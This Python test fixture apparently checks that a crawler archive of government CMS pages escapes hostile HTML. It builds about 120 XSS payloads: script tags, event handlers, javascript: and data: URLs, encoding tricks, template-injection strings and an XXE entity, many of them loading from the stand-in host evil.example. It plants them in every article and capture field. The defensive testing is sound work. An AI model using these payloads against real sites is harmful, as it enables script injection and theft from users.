"""A hundred and twenty things that a page may hold to run a script, or to call away, where it is
shown; and an archive of them. Each says its own number, so that what gets through can be told."""

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

from storage.archive import Archive
from storage.article import Article, ArticleKey, Attachment, Link
from storage.values import Captured, ChannelSeen, Listed, Placed, SiteSeen, Walked, Wanted

HOST = "xss.example.gov.cn"
FIRST = datetime(2026, 3, 12, 2, 0, tzinfo=UTC)
_AWAY = "http://evil.example/"

_TAGS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT >",
    "<script/x>{run}</script>",
    "<script src={away}></script>",
    "<script src=//evil.example/{n}.js></script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script\x0c>{run}</script\x0c>",
    "<script type=module>{run}</script>",
    "<script>/*&lt;/script&gt;*/{run}</script>",
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "<img src=x onerror={run}>",
    "<img src={away}>",
    "<img/src=x/onerror={run}>",
    "<IMG SRC=x ONERROR=\"{run}\">",
    "<img src=x onerror=&#97;lert({n})>",
    "<image src=x onerror={run}>",
    "<img srcset=\"{away} 1x\">",
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<svg><script>{run}</script></svg>",
    "<svg><script href={away}></script></svg>",
    "<svg><image href={away}></image></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload={run}>#x\">",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{run}>",
    "<svg><a><animate attributeName=href values=javascript:{run}></a><text>x</text></svg>",
    "<svg><foreignObject><iframe onload={run}></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table>",
    "<math><a xlink:href=javascript:{run}>x</a></math>",
    "<body onload={run}>",
    "<body background={away}>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe src={away}></iframe>",
    "<iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>",
    "<iframe onload={run}></iframe>",
    "<frameset onload={run}><frame src={away}></frameset>",
    "<object data=javascript:{run}></object>",
    "<object data={away}></object>",
    "<object data=\"data:text/html,<script>{run}</script>\"></object>",
    "<embed src=javascript:{run}>",
    "<embed src={away}>",
    "<applet code={away}></applet>",
    "<video src={away} autoplay></video>",
    "<video><source onerror={run}></video>",
    "<video poster={away}></video>",
    "<audio src=x onerror={run}></audio>",
    "<audio autoplay src={away}></audio>",
    "<input autofocus onfocus={run}>",
    "<input type=image src={away} onerror={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<keygen autofocus onfocus={run}>",
    "<button autofocus onfocus={run}>x</button>",
    "<details open ontoggle={run}></details>",
    "<dialog open onfocusin={run}><input autofocus></dialog>",
    "<marquee onstart={run}>x</marquee>",
    "<p onpointerover={run} style=position:fixed;inset:0>x</p>",
    "<div style=\"background:url({away})\">x</div>",
    "<div style=\"width:expression({run})\">x</div>",
    "<style>@import '{away}';</style>",
    "<style>*{{background:url({away})}}</style>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href={away}>",
    "<link rel=import href={away}>",
    "<link rel=prefetch href={away}>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=icon href={away}>",
    "<meta http-equiv=refresh content=\"0;url={away}\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{run}\">",
    "<meta http-equiv=Set-Cookie content=a=1>",
    "<base href={away}>",
    "<base href=javascript:{run}//>",
    "<form action={away}><input name=q><button autofocus>x</button></form>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<isindex action=javascript:{run} type=image>",
    "<a href=javascript:{run} autofocus>x</a>",
    "<a href=\"java\tscript:{run}\">x</a>",
    "<a href=&#106;avascript:{run}>x</a>",
    "<a href=\"\x01javascript:{run}\">x</a>",
    "<a href={away} ping={away}>x</a>",
    "<portal src={away}></portal>",
    "<template><script>{run}</script></template><script>{run}</script>",
    "<table background={away}><td background={away}>x</td></table>",
    "<xss onanimationstart={run} style=animation:x></xss>",
    "<x contenteditable onfocus={run} autofocus>x</x>",
    "<bgsound src={away}>",
    "<layer src={away}></layer>",
    "<xml><i><![CDATA[<img src=x onerror={run}>]]></i></xml>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[><script>{run}</script>]]>",
    "<?xml version=1.0?><script xmlns=http://www.w3.org/1999/xhtml>{run}</script>",
    "<?xml-stylesheet href=\"{away}\"?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"{away}\">]><x>&e;</x>",
)  # fmt: skip
_BREAKOUTS = (
    "\"><script>{run}</script>",
    "'><script>{run}</script>",
    "\" autofocus onfocus={run} x=\"",
    "' autofocus onfocus={run} x='",
    "` onmouseover={run} `",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "</script><script>{run}</script>",
    "</bdi></p></main><script>{run}</script>",
    "]]><script xmlns=\"http://www.w3.org/1999/xhtml\">{run}</script>",
    "--><script>{run}</script>",
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    "//evil.example/{n}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{''.__class__.__mro__}}}}{{% debug %}}<script>{run}</script>",
    "${{{run}}}<script>{run}</script>",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={run}&amp;gt;",
    "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\ufeff\u202e<script>{run}</script>\u202c",
)  # fmt: skip
PAYLOADS = tuple(
    form.format(run=f"alert({n})", away=f"{_AWAY}{n}", n=n)
    for n, form in enumerate((*_TAGS, *_BREAKOUTS))
)


def address(n: int) -> str:
    return f"http://{HOST}/art/2026/3/1/art_4_{n + 1}.html?{PAYLOADS[n]}"


def _article(n: int) -> Article:
    payload = PAYLOADS[n]
    return Article(
        title=f"{n} 号通知{payload}",
        subtitle=payload,
        body=f"开头。\n{payload}\n甲\t{payload}\n结尾。",
        published="2026-03-01",
        source=payload,
        author=payload,
        doc_number=payload,
        info={payload: payload},
        attachments=(Attachment(payload, payload), Attachment(payload, f"http://{HOST}/{payload}")),
        images=(payload,),
        videos=(payload,),
        notes=(payload,),
        links=(Link(payload, payload),),
    )


def record(archive: Archive) -> None:
    """Every payload as an article of its own, seen twice: what came between is one more payload."""
    for day in range(2):
        at = FIRST + timedelta(days=day)
        with archive.record("hanweb", f"http://{HOST}/{PAYLOADS[0]}", [HOST]) as crawl:
            crawl.add(SiteSeen(host=HOST, name=PAYLOADS[0], generation=PAYLOADS[10], at=at))
            crawl.add(
                ChannelSeen(
                    host=HOST, cms_id="4", name=PAYLOADS[94], url=PAYLOADS[106],
                    parent_cms_id=None, dialect=PAYLOADS[0], own=True, at=at,
                )
            )  # fmt: skip
            entries = tuple(
                Placed(
                    ArticleKey(HOST, str(n + 1)), address(n), f"{n} {PAYLOADS[n]}", date(2026, 3, 1)
                )
                for n in range(len(PAYLOADS))
            )
            crawl.add(Listed(host=HOST, channel="4", at=at, entries=entries))
            crawl.add(
                Walked(
                    host=HOST, channel="4", walked_at=at, claimed_total=len(PAYLOADS) + 1,
                    entries_seen=len(PAYLOADS), articles_seen=len(PAYLOADS), repeats=0, off_site=0,
                    pages=1, stop_reason=f"failed: {PAYLOADS[0]}", verdict="short by 1", whole=True,
                )
            )  # fmt: skip
            for n in range(len(PAYLOADS)):
                article = _article(n)
                if day:
                    other = PAYLOADS[(n + 1) % len(PAYLOADS)]
                    article = replace(
                        article, body=f"开头。\n{other}\n甲\t{other}\n结尾{PAYLOADS[n]}。"
                    )
                _look(crawl, n, article, at)


def _look(crawl, n: int, article: Article, at: datetime) -> None:
    key = ArticleKey(HOST, str(n + 1))
    crawl.add(Wanted(url=address(n), kind="article", key=key, listed_title=None, at=at))
    crawl.add(
        Captured(
            url=address(n), captured_at=at, status=200,
            headers={"Content-Type": "text/html; charset=utf-8", "X-Held": PAYLOADS[n]},
            payload=f"<!doctype html><title>{PAYLOADS[n]}</title>{PAYLOADS[n]}{at}".encode(),
            page_kind="article", reader="story/1", key=key, article=article, reason=PAYLOADS[n],
        )
    )  # fmt: skip
